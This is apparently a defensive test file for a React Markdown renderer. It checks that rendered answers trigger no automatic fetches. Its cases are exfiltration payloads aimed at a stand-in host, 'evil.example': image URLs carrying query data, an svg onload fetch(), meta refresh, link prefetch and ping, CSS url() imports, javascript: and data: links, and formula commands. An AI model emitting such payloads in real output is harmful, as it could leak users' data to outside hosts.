import { render } from '@testing-library/react';
import { afterEach, expect, test, vi } from 'vitest';
import Markdown from './markdown.tsx';

afterEach(() => {
  document.body.innerHTML = '';
});

const evil = 'https://evil.example/?q=all-of-it';
/** Whatever a browser fetches by itself, or sends anything by. */
const loading = `img, picture, source, video, audio, track, iframe, frame, object, embed, link, script, style, base, meta,
  form, input, button[type=submit], use, image, feImage, [src], [srcset], [background], [ping], [style*="url"]`;

function expectNothingFetched(page: Element): void {
  expect([...page.querySelectorAll(loading)].map(({ outerHTML }) => outerHTML)).toEqual([]);
  for (const link of page.querySelectorAll('a[href]')) expect(link.getAttribute('href')).toMatch(/^(?:https?:|#)/);
}

test.each([
  ['an image', `![](${evil})`],
  ['an image by reference', `![a][b]\n\n[b]: ${evil}`],
  ['an image within a link', `[![a](${evil})](${evil})`],
  ['an image in a table', `| a |\n|---|\n| ![a](${evil}) |`],
  ['an image in a list that is still written', `- ![a](${evil}`],
  ['an image without its protocol', '![a](//evil.example/?q=all-of-it)'],
  ['an image of an element', `<img src="${evil}"> <picture><source srcset="${evil}"></picture>`],
  ['an element that harmless ones surround', `<details><summary>T</summary><img src="${evil}"></details>`],
  ['attributes of harmless elements', `<kbd style="background:url(${evil})">x</kbd> <sub background="${evil}">x</sub>`],
  ['a drawing in the text', `<svg onload="fetch('${evil}')"><image href="${evil}"/><use href="${evil}"/></svg>`],
  [
    'a frame, a film and a form',
    `<iframe src="${evil}"></iframe><video poster="${evil}"></video><form action="${evil}">`,
  ],
  ['a style', `<style>@import url(${evil});</style><p style="background:url(${evil})">x</p>`],
  [
    'what a page says of itself',
    `<meta http-equiv="refresh" content="0;url=${evil}"><link rel="preload" href="${evil}">`,
  ],
  ['a link that is fetched ahead', `<a ping="${evil}" href="${evil}">x</a> <link rel="dns-prefetch" href="${evil}">`],
  ['a footnote', `x[^1]\n\n[^1]: ![a](${evil})`],
  [
    'a script in an address',
    '[x](javascript:fetch`//evil.example`) [y](data:text/html,<script>1</script>) [z](vbscript:x)',
  ],
])('nothing in an answer is fetched by itself: %s', (_what, text) => {
  const page = render(<Markdown text={text} writing={false} />).container;
  expectNothingFetched(page);
});

test('nothing in an answer is fetched by itself: what formulas can show', async () => {
  const formulas = [
    `\\includegraphics[height=1em]{${evil}}`,
    `\\href{${evil}}{x}`,
    '\\url{javascript:alert(1)}',
    `\\htmlStyle{background: url(${evil})}{x}`,
    `\\htmlData{src=${evil}}{x}`,
    'x^2',
  ];
  const page = render(
    <Markdown text={formulas.map((one) => `\\[ ${one} \\]`).join('\n\n')} writing={false} />,
  ).container;
  const typeset = () => [...page.querySelectorAll('annotation')].map(({ textContent }) => textContent?.trim());
  await vi.waitFor(() => expect(typeset()).toContain('x^2'), 20_000);
  expectNothingFetched(page);
});
